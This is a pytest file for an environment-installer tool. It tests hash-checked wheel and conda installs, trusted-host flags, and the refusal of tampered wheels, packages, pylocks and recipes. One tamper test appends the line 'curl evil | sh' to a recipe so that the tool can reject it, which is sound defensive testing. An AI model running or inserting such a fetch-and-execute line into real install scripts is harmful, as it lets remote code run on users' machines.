"""The install core for real: a venv or a rattler prefix, hash-checked wheels over HTTP from the
lock's own derived file (requirements.txt for pip, the pylock for uv), the recipe, tampering."""

from __future__ import annotations

import hashlib
import shutil
import subprocess
import sys
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import pytest
from click.testing import CliRunner
from envgen.cli import cli
from envgen.errors import InputError, VerificationError
from envgen.example.condapkgs import PackageFile, demo_packages, host_python, write_channel
from envgen.example.http import serve_directory
from envgen.example.srcprojects import backend_project
from envgen.example.wheels import FixtureDist, build_wheel, write_index
from envgen.installer.core import CondaPart, Request, install
from envgen.installer.destinations import CondaPrefix, Venv
from envgen.installer.sources import IndexSource
from envgen.installer.tools import INSTALLER_NAMES, InstallerName, Pip, Uv, installer_named
from envgen.lockio.exports.common import trusted_hosts
from envgen.lockio.exports.derived import derived_files
from envgen.lockio.store import write_lock
from envgen.model import Channel, CondaEntry, Index, Lock, LockedSource, Matrix, PipEntry, Source
from envgen.platforms import host_platform
from envgen.project import Project
from envgen.recipe.render import render_recipe
from envgen.resolve.conda.stage import solve_conda

from tests.support.builders import at, bare_at, conda_entry, make_lock, make_matrix, tools_at
from tests.support.shared import build_once
from tests.support.venvs import fresh_venv, link_or_copy

HOST = host_platform()
PYTHON = ".".join(map(str, sys.version_info[:3]))


def python_entry(version: str = PYTHON, platform: str = HOST) -> CondaEntry:
    """The conda python a lock records; in venv mode only its version matters."""
    return conda_entry("python", version, platform)


def wheel_entries(base: str, files: dict[str, Path]) -> tuple[PipEntry, ...]:
    entries = []
    for name, path in sorted(files.items()):
        version = path.name.split("-")[1]
        sha = hashlib.sha256(path.read_bytes()).hexdigest()
        url = f"{base}/files/{path.name}"
        entries.append(PipEntry(name, version, HOST, url, sha, index="pypi"))
    return tuple(entries)


@pytest.fixture
def wheelhouse(tmp_path: Path) -> Iterator[tuple[str, dict[str, Path]]]:
    """Two wheels as a PEP 503 index (`base`/simple, files under `base`/files), served."""
    root = tmp_path / "served"
    built = {
        "alpha": build_wheel(FixtureDist("alpha", "1.2.0"), "py3-none-any", tmp_path / "built"),
        "beta-pkg": build_wheel(
            FixtureDist("beta-pkg", "0.3.0", requires=("alpha>=1",)),
            "py3-none-any",
            tmp_path / "built",
        ),
    }
    write_index(root, list(built.values()))
    with serve_directory(root) as base:
        yield base, {name: root / "files" / path.name for name, path in built.items()}


def demo_lock(
    pip: tuple[PipEntry, ...] = (), sources: tuple[LockedSource, ...] = (), **fields: object
) -> Lock:
    """A lock on this host with the host's python (the one a venv can be made with) unless `conda`
    says else."""
    fields.setdefault("conda", (python_entry(),))
    return make_lock(platforms=(HOST,), pip=pip, sources=sources, **fields)


def locked_project(root: Path, lock: Lock) -> Project:
    """A project holding `lock` as `envgen lock` writes it: the three files and the derived ones."""
    project = Project(root)
    for part in ("locks", "env-templates", "channels"):
        (project.root / part).mkdir(parents=True, exist_ok=True)
    derived = [(f.name, f.text) for f in derived_files(lock, None)]
    write_lock(project, lock.env, lock, render_recipe(lock), derived)
    return project


def install_locked(
    lock: Lock, root: Path, prefix: Path, installer: InstallerName = "pip", *, venv: bool = True
) -> Project:
    """`lock` written into a project at `root`, then installed from it into `prefix`."""
    project = locked_project(root, lock)
    cache = root / "cache"
    tools = tools_at(cache)
    env = Venv(prefix, tools) if venv else CondaPrefix(prefix, tools)
    install(
        Request(lock, HOST),
        IndexSource(project, settings=bare_at(cache)),
        env,
        installer_named(installer, tools),
    )
    return project


@pytest.mark.parametrize("installer", INSTALLER_NAMES)
def test_venv_install_of_wheels_and_a_source(
    installer: InstallerName,
    wheelhouse: tuple[str, dict[str, Path]],
    tmp_path: Path,
    pip_site_packages: Path,
) -> None:
    base, files = wheelhouse
    repo = backend_project(tmp_path / "srcfix", "srcfix", "0.9.0")
    source = LockedSource(Source("srcfix", repo.url, "main", "srcfix"), repo.rev())
    # An index with a trusted host (as triton-ascend's): pip and uv get and accept their flag for
    # it.
    host = base.split("//", 1)[1]
    index = Index("pypi", f"{base}/simple", False, host)
    lock = demo_lock(wheel_entries(base, files), (source,), indexes=(index,))
    # An existing venv is installed into as it is (test_cli_install_into_a_venv has envgen make
    # one).
    prefix = fresh_venv(tmp_path / "env", pip_site_packages)
    install_locked(lock, tmp_path / "project", prefix, installer)
    code = (
        "import importlib.metadata as m; print(*(m.version(d) for d in ('alpha', "
        "'beta-pkg', 'srcfix')))"
    )
    shown = subprocess.run(
        [str(prefix / "bin" / "python"), "-c", code], capture_output=True, text=True
    )
    assert shown.stdout.split() == ["1.2.0", "0.3.0", "0.9.0"], shown.stderr
    # The recipe installs the source with the same tool as the pip part: each records itself as
    # INSTALLER.
    code = (
        "import importlib.metadata as m; print(*(m.distribution(d).read_text('INSTALLER') for d in "
    )
    code += "('alpha', 'srcfix')))"
    shown = subprocess.run(
        [str(prefix / "bin" / "python"), "-c", code], capture_output=True, text=True
    )
    assert shown.stdout.split() == [installer, installer], shown.stderr


def test_trusted_hosts_are_those_of_the_indexes_the_entries_came_from(tmp_path: Path) -> None:
    """The triton-ascend index is declared with a trusted host: installing its wheel must pass it
    on."""
    entries = (
        PipEntry(
            "triton-ascend",
            "3.2.2",
            HOST,
            "https://triton-ascend.osinfra.cn/t.whl",
            "a" * 64,
            index="ta",
        ),
        PipEntry(
            "alpha", "2.0", HOST, "https://x/alpha-2.0-py3-none-any.whl", "b" * 64, index="pypi"
        ),
    )
    indexes = (
        Index("pypi", "https://pypi.org/simple"),
        Index(
            "ta", "https://triton-ascend.osinfra.cn/pypi/simple/", True, "triton-ascend.osinfra.cn"
        ),
        Index("unused", "https://other.example/simple", True, "other.example"),
    )
    lock = demo_lock(entries, indexes=indexes)
    assert trusted_hosts(lock, entries) == ("triton-ascend.osinfra.cn",)
    assert trusted_hosts(lock, entries[1:]) == ()
    part = IndexSource(locked_project(tmp_path / "project", lock), settings=bare_at(tmp_path)).pip(
        lock, HOST, Pip(tools_at(tmp_path))
    )
    assert part is not None and part.trusted == ("triton-ascend.osinfra.cn",)
    python = tmp_path / "bin" / "python"
    pip = Pip(tools_at(tmp_path / "cache")).command(python, part)
    assert pip[pip.index("--trusted-host") + 1] == "triton-ascend.osinfra.cn"
    assert pip[-2:] == ["-r", str(tmp_path / "project" / "locks" / f"demo.{HOST}.requirements.txt")]
    uv = Uv(tools_at(tmp_path / "cache")).command(python, part)
    assert uv[uv.index("--allow-insecure-host") + 1] == "triton-ascend.osinfra.cn"
    assert "--require-hashes" in pip and "--no-deps" in uv


@pytest.mark.parametrize("installer", INSTALLER_NAMES)
def test_tampered_wheel_fails_the_install(
    installer: InstallerName,
    wheelhouse: tuple[str, dict[str, Path]],
    tmp_path: Path,
    pip_site_packages: Path,
) -> None:
    base, files = wheelhouse
    lock = demo_lock(wheel_entries(base, files), indexes=(Index("pypi", f"{base}/simple"),))
    # Same name and version, other bytes: what a compromised or re-uploaded index serves.
    build_wheel(
        FixtureDist("alpha", "1.2.0", requires=("evil",)), "py3-none-any", tmp_path / "evil"
    )
    files["alpha"].write_bytes((tmp_path / "evil" / files["alpha"].name).read_bytes())
    prefix = fresh_venv(tmp_path / "env", pip_site_packages)
    with pytest.raises(VerificationError, match="does not match its locked sha256"):
        install_locked(lock, tmp_path / "project", prefix, installer)


def test_venv_refuses_a_python_other_than_the_locked_one(tmp_path: Path) -> None:
    other = f"{sys.version_info[0]}.{sys.version_info[1] + 1}.0"
    lock = demo_lock(conda=(python_entry(other),))
    with pytest.raises(InputError, match=f"but the lock of demo has python {other}"):
        install_locked(lock, tmp_path / "project", tmp_path / "env")
    assert not (tmp_path / "env").exists()


def test_a_hand_edited_recipe_is_refused(tmp_path: Path) -> None:
    lock = demo_lock()
    project = locked_project(tmp_path / "project", lock)
    recipe = project.install_sh(lock.env)
    recipe.write_text(recipe.read_text() + "curl evil | sh\n")
    env = Venv(tmp_path / "env", tools_at(tmp_path))
    with pytest.raises(VerificationError, match="differs from the recipe its lock renders"):
        source = IndexSource(project, settings=bare_at(tmp_path))
        install(Request(lock, HOST), source, env, Pip(tools_at(tmp_path)))
    assert not env.path.exists()


def test_a_hand_edited_pylock_is_refused_before_the_env_is_made(
    wheelhouse: tuple[str, dict[str, Path]], tmp_path: Path
) -> None:
    """What uv reads of the pylock must be what the lock renders: a file swapped in is not
    installed."""
    base, files = wheelhouse
    lock = demo_lock(wheel_entries(base, files), indexes=(Index("pypi", f"{base}/simple"),))
    project = locked_project(tmp_path / "project", lock)
    pylock = project.locks_dir / f"pylock.demo-{HOST}.toml"
    pylock.write_text(pylock.read_text().replace(lock.pip[0].sha256, "0" * 64))
    env = Venv(tmp_path / "env", tools_at(tmp_path))
    with pytest.raises(VerificationError, match=f"locks/{pylock.name} does not carry") as raised:
        source = IndexSource(project, settings=bare_at(tmp_path))
        install(Request(lock, HOST), source, env, Uv(tools_at(tmp_path)))
    assert f"alpha: 1.2.0 alpha-1.2.0-py3-none-any.whl, sha256 {'0' * 12} here" in str(raised.value)
    assert not env.path.exists()


def _conda_matrix(channel: str) -> Matrix:
    return make_matrix(
        platforms=(HOST,),
        channels=(Channel("demo", channel),),
        conda_specs=("python 3.11.*", "pip"),
    )


def libdemo_entry(entries: tuple[CondaEntry, ...]) -> CondaEntry:
    return next(e for e in entries if e.name == "libdemo")


def _built_prefix(path: Path) -> None:
    """`path/env`: the fixture channel's python and pip, installed by CondaPrefix.create;
    `path/sha256`: the sha256 of each package in it, a line each."""
    write_channel(path / "channel" / "demo", demo_packages())
    with serve_directory(path / "channel") as channel:
        entries = solve_conda(_conda_matrix(f"{channel}/demo"), HOST, at(path / "cache"))
        CondaPrefix(path / "env", tools_at(path / "cache")).create(
            demo_lock(conda=entries), HOST, CondaPart(entries)
        )
    (path / "sha256").write_text("".join(sorted(f"{e.sha256}\n" for e in entries)))


@pytest.fixture
def conda_part_copied(
    tmp_path_factory: pytest.TempPathFactory, monkeypatch: pytest.MonkeyPatch
) -> None:
    """CondaPrefix.create replaced by a copy of the session's prefix of the fixture channel (made
    once by the real create: rattler's install, the prefix's own python, its noarch bytecode), for
    the tests whose subject is what goes into a conda prefix after its conda part: the pip part by
    the prefix's python, the sources, the recipe. The real create, each time, is
    test_a_conda_prefix_has_the_bytecode_of_its_noarch_python_packages_before_any_python_runs_there
    (and every conda-prefix install of test_check, test_without_cann, test_demo).

    The copy's files are hard links where the file system allows (venvs.link_or_copy: nothing
    writes into an installed file); the prefix's paths inside it name the shared prefix only in
    pip's own console scripts, which the install does not run (it runs `python -m pip`)."""
    shared = build_once(tmp_path_factory, "install-conda-prefix", _built_prefix)

    def copied(self: CondaPrefix, lock: Lock, platform: str, conda: CondaPart) -> None:
        # the very packages the shared prefix holds (the channel's URL differs: another server)
        wanted = "".join(sorted(f"{e.sha256}\n" for e in conda.entries))
        assert wanted == (shared / "sha256").read_text()
        shutil.copytree(shared / "env", self.path, symlinks=True, copy_function=link_or_copy)

    monkeypatch.setattr(CondaPrefix, "create", copied)


@pytest.mark.parametrize("installer", INSTALLER_NAMES)
def test_a_conda_prefix_gets_the_conda_part_then_the_pip_part_by_its_own_python_then_the_recipe(
    installer: InstallerName,
    wheelhouse: tuple[str, dict[str, Path]],
    tmp_path: Path,
    conda_part_copied: None,
) -> None:
    """The researchers' env: rattler installs the conda part (the example's python is this host's
    interpreter behind a pyvenv.cfg; here a copy of the session's, `conda_part_copied`), the
    prefix's python installs the pip part into the prefix, the recipe the source."""
    base, files = wheelhouse
    repo = backend_project(tmp_path / "srcfix", "srcfix", "0.9.0")
    source = LockedSource(Source("srcfix", repo.url, "main", "srcfix"), repo.rev())
    write_channel(tmp_path / "channel" / "demo", demo_packages())
    prefix = tmp_path / "env"
    with serve_directory(tmp_path / "channel") as channel:
        entries = solve_conda(_conda_matrix(f"{channel}/demo"), HOST, at(tmp_path / "cache"))
        indexes = (Index("pypi", f"{base}/simple"),)
        lock = demo_lock(wheel_entries(base, files), (source,), conda=entries, indexes=indexes)
        install_locked(lock, tmp_path / "project", prefix, installer, venv=False)
    assert (prefix / "lib" / "libdemo.txt").read_text() == f"libdemo 1.0 for {HOST}\n"
    assert (prefix / "conda-meta" / f"{libdemo_entry(entries).name}-1.0-h0_0.json").is_file()
    versions = "*(m.version(d) for d in ('alpha', 'srcfix'))"
    code = f"import beta_pkg, importlib.metadata as m; print(beta_pkg.__file__, {versions})"
    shown = subprocess.run([prefix / "bin" / "python", "-c", code], capture_output=True, text=True)
    site = prefix / "lib" / "python3.11" / "site-packages"
    assert shown.stdout.split() == [str(site / "beta_pkg" / "__init__.py"), "1.2.0", "0.9.0"]
    assert (prefix / "src" / "srcfix" / ".git").is_dir()
    assert (prefix / "etc" / "conda" / "activate.d" / "envgen-demo.sh").is_file()
    # The interpreter the prefix's python launches has none of it.
    probe = "import importlib.util as u; print(u.find_spec('beta_pkg'))"
    isolated = [str(host_python().executable), "-I", "-c", probe]
    assert subprocess.run(isolated, capture_output=True, text=True).stdout.strip() == "None"


def test_a_pythonpath_source_imports_from_a_conda_prefix_with_nothing_activated(
    tmp_path: Path, conda_part_copied: None
) -> None:
    """A source with pythonpath = true (its module importable from its checkout only) imports by
    the prefix's python from a shell with nothing sourced: no conda activate, no activate.d hook.
    By uv: pip's install of a source into a conda prefix is the test above's."""
    repo = backend_project(tmp_path / "trainer", "trainer", "0.2.0", importable=False)
    source = Source("trainer", repo.url, "main", "trainer", editable=False, pythonpath=True)
    write_channel(tmp_path / "channel" / "demo", demo_packages())
    prefix = tmp_path / "env"
    with serve_directory(tmp_path / "channel") as channel:
        entries = solve_conda(_conda_matrix(f"{channel}/demo"), HOST, at(tmp_path / "cache"))
        lock = demo_lock(sources=(LockedSource(source, repo.rev()),), conda=entries)
        install_locked(lock, tmp_path / "project", prefix, "uv", venv=False)
    code = "import trainer; print(trainer.__version__, trainer.__file__)"
    shown = subprocess.run(
        ["env", "-i", "PATH=/usr/bin:/bin", str(prefix / "bin" / "python"), "-c", code],
        capture_output=True,
        text=True,
        cwd="/",
    )
    assert shown.returncode == 0, shown.stderr
    checkout = (prefix / "src" / "trainer").resolve()
    assert shown.stdout.split() == ["0.2.0", str(checkout / "trainer" / "__init__.py")]
    site = prefix / "lib" / "python3.11" / "site-packages"
    assert str(checkout) in (site / "envgen-demo.pth").read_text()


def test_a_conda_prefix_has_the_bytecode_of_its_noarch_python_packages_before_any_python_runs_there(
    tmp_path: Path,
) -> None:
    """rattler links `noarch: python` packages as sources only; conda compiles them, and so does
    envgen: the prefix's pip runs about half a dozen times per install and check, each compiling pip
    anew where no bytecode may be written (PYTHONDONTWRITEBYTECODE). Only the prefix is made here:
    no python has run pip there."""
    write_channel(tmp_path / "channel" / "demo", demo_packages())
    prefix = tmp_path / "env"
    with serve_directory(tmp_path / "channel") as channel:
        entries = solve_conda(_conda_matrix(f"{channel}/demo"), HOST, at(tmp_path / "cache"))
        CondaPrefix(prefix, tools_at(tmp_path / "cache")).create(
            demo_lock(conda=entries), HOST, CondaPart(entries)
        )
    pip = prefix / "lib" / "python3.11" / "site-packages" / "pip"
    sources = sorted(p.relative_to(pip) for p in pip.rglob("*.py"))
    compiled = sorted(
        p.parent.parent.relative_to(pip) / f"{p.name.split('.')[0]}.py" for p in pip.rglob("*.pyc")
    )
    assert len(sources) > 100 and compiled == sources
    # by the prefix's python
    assert {p.name.split(".")[1] for p in pip.rglob("*.pyc")} == {"cpython-311"}


def test_a_stand_in_python_is_refused_before_pip_could_touch_another_env(tmp_path: Path) -> None:
    """A conda python that runs another interpreter (a shim of `python3`) would install the pip
    part there; the hint says what to fix, not a fixture channel's story."""
    shim = PackageFile("bin/python", b'#!/bin/sh\nexec python3 "$@"\n', 0o755)
    packages = [replace(p, files=(shim,)) if p.name == "python" else p for p in demo_packages()]
    write_channel(tmp_path / "channel" / "demo", packages)
    prefix = tmp_path / "env"
    with serve_directory(tmp_path / "channel") as channel:
        entries = solve_conda(_conda_matrix(f"{channel}/demo"), HOST, at(tmp_path / "cache"))
        wheel = f"{channel}/alpha-1.2.0-py3-none-any.whl"
        lock = demo_lock((PipEntry("alpha", "1.2.0", HOST, wheel, "a" * 64),), conda=entries)
        elsewhere = "installed through it would land elsewhere"
        with pytest.raises(VerificationError, match=elsewhere) as raised:
            install_locked(lock, tmp_path / "project", prefix, venv=False)
    assert raised.value.hint is not None
    assert "not an interpreter of its own prefix" in raised.value.hint
    assert "fixture" not in raised.value.hint
    assert (prefix / "lib" / "libdemo.txt").is_file()  # the conda part was in place


def test_a_tampered_conda_package_fails_the_install(tmp_path: Path) -> None:
    root = tmp_path / "served"
    write_channel(root / "demo", demo_packages())
    with serve_directory(root) as base:
        entries = solve_conda(_conda_matrix(f"{base}/demo"), HOST, at(tmp_path / "cache"))
        lock = demo_lock(conda=entries)
        libdemo = libdemo_entry(entries)
        served = root / "demo" / HOST / libdemo.url.rsplit("/", 1)[1]
        served.write_bytes(served.read_bytes() + b"tampered")
        with pytest.raises(VerificationError, match="hash mismatch|sha256"):
            install_locked(lock, tmp_path / "project", tmp_path / "env", venv=False)


def test_cli_install_into_a_venv(wheelhouse: tuple[str, dict[str, Path]], tmp_path: Path) -> None:
    """`install` refuses a lock its project has no matrix of unless --frozen, then makes the venv
    and installs it. By uv: with pip the venv's seeds are compiled first (seconds of CPU; that
    they are is test_venv_seed's), and pip's install into a venv is
    test_venv_install_of_wheels_and_a_source[pip]'s."""
    base, files = wheelhouse
    # A lock as `envgen lock` writes it: its index and channel listed (`install` checks its
    # integrity first); the project has no matrix of it, so only --frozen installs it as it is.
    lock = demo_lock(
        wheel_entries(base, files),
        indexes=(Index("pypi", f"{base}/simple"),),
        channels=(Channel("conda-forge", "https://conda.anaconda.org/conda-forge"),),
    )
    project = locked_project(tmp_path / "project", lock)
    prefix = tmp_path / "env"
    args = ["install", "demo", "--root", str(project.root), "--prefix", str(prefix), "--venv"]
    args += ["--installer", "uv"]
    refused = CliRunner().invoke(cli, args)
    assert refused.exit_code == 1, refused.output
    assert "the lock of demo is stale" in refused.output and "--frozen" in refused.output
    assert not prefix.exists()
    result = CliRunner().invoke(cli, [*args, "--frozen"])
    assert result.exit_code == 0, result.output
    # It ends by saying how to use the env: as it is, or activated for its variables.
    assert f"demo: installed into {prefix}\n" in result.output
    assert f"{prefix}/bin/python imports every source of the env" in result.output
    assert f"activate it: . {prefix}/bin/activate" in result.output
    shown = subprocess.run(
        [str(prefix / "bin" / "python"), "-c", "import beta_pkg; print(beta_pkg.__version__)"],
        capture_output=True,
        text=True,
    )
    assert shown.stdout.strip() == "0.3.0"
